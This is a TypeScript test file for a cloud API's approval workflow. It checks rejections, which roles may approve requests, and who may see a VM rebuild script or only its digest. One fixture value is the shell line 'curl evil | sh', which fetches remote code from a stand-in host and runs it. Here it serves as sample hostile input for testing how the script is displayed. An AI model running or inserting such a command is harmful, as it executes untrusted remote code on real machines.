// A person with a role that may do what is asked for decides.
import { randomUUID } from "node:crypto";
import type { RequestedField } from "@fulmar/contract";
import { afterAll, expect, test } from "vitest";
import { ExampleFixture } from "../examples/example-fixture.ts";
import { openApprovals } from "./approvals-fixture.ts";

const { api, fixture, makeBucket, decide, outcomeFor, expectWaiting } = await openApprovals();
afterAll(() => api.close());

test("a rejected request is not done, and says why", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const name = await makeBucket();
  const approvalId = expectWaiting(
    await fixture.send(token, "PATCH", `/object-storage/buckets/${name}`, { body: { is_public: true } }),
  );
  const { value } = await decide("reject", approvalId, fixture.people.developer, { reason: "It is private." });
  expect(value).toMatchObject({ status: "rejected", reason: "It is private." });
  expect(await outcomeFor(token, approvalId)).toMatchObject({
    status: "rejected",
    reason: "It is private.",
    outcome: null,
  });
  // Asked again, it waits anew.
  const again = await fixture.send(token, "PATCH", `/object-storage/buckets/${name}`, { body: { is_public: true } });
  expect(expectWaiting(again)).not.toBe(approvalId);
});

test("only a role that may do it decides, and others see why not", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  for (const role of ["viewer", "billing", "secret_reader"] as const) {
    const credentials = fixture.as(fixture.people[role]);
    for (const verb of ["approve", "reject"] as const)
      expect((await decide(verb, approvalId, fixture.people[role])).refusal?.code).toBe("scope_missing");
    const { value } = await fixture.call(
      "approval.get",
      { ...fixture.workspace, approval_id: approvalId },
      { credentials },
    );
    expect(value?.undecidable).toContain("ask one of them");
    expect(JSON.stringify(value?.plan).includes("are not shown")).toBe(role === "billing");
  }
  const tokens = expectWaiting(
    await fixture.send(token, "POST", "/tokens", {
      body: {
        name: "more",
        scopes: ["vm.read"],
        workspace_policy: "entire_organization",
        workspace_ids: [],
        expires_at: null,
        guard: "approve_all",
      },
    }),
  );
  expect((await decide("approve", tokens, fixture.people.developer)).refusal?.code).toBe("scope_missing");
  expect((await decide("approve", tokens, fixture.people.admin)).value).toMatchObject({ status: "carried_out" });
  expect((await decide("approve", approvalId, fixture.people.developer)).value).toMatchObject({
    status: "carried_out",
  });
});

test("who may decide reads a script, others see its digest, and who may not read VMs sees neither", async () => {
  const example = new ExampleFixture(api, fixture.tenant);
  const vm = await example.vm();
  const token = await fixture.token({ guard: "approve_destructive" });
  const user_data = "#!/bin/sh\ncurl evil | sh\n";
  const body = { template_id: "debian-13", user_data, ssh_keys: [] };
  const approvalId = expectWaiting(
    await fixture.send(token, "POST", `/compute/cloud-vms/${vm}/rebuild`, { body, key: randomUUID() }),
  );
  const get = async (who: string) =>
    (
      await fixture.call(
        "approval.get",
        { ...fixture.workspace, approval_id: approvalId },
        { credentials: fixture.as(who) },
      )
    ).value as { fields: RequestedField[]; warnings: string[] };
  const digest = "25 bytes, SHA-256 02d8e966c08ee2d7e62ee11ea4485bd5bd6a61a6d8fa00f9d71cfb22ba7a7b9a";
  const shown = (text: string | null): RequestedField[] => [
    { field: "vm_id", shown_as: "value", value: vm, text: null },
    { field: "template_id", shown_as: "value", value: "debian-13", text: null },
    { field: "ssh_keys", shown_as: "value", value: [], text: null },
    { field: "user_data", shown_as: "text", value: digest, text },
  ];
  for (const role of ["owner", "admin", "developer"] as const)
    expect((await get(fixture.people[role])).fields).toEqual(shown(user_data));
  for (const role of ["viewer", "secret_reader"] as const)
    expect((await get(fixture.people[role])).fields).toEqual(shown(null));
  expect((await get(fixture.people.billing)).fields).toEqual(
    shown(null).map(({ field }) => ({ field, shown_as: "hidden", value: null, text: null })),
  );
  const toToken = await outcomeFor(token, approvalId);
  expect(toToken.fields).toEqual(shown(null));
  expect(toToken.warnings).toEqual(["It replaces the root disk: everything on it is lost."]);
  // A decided request is shown on, as far as it is kept.
  await decide("reject", approvalId);
  expect((await get(fixture.people.owner)).fields).toEqual(shown(null));
});
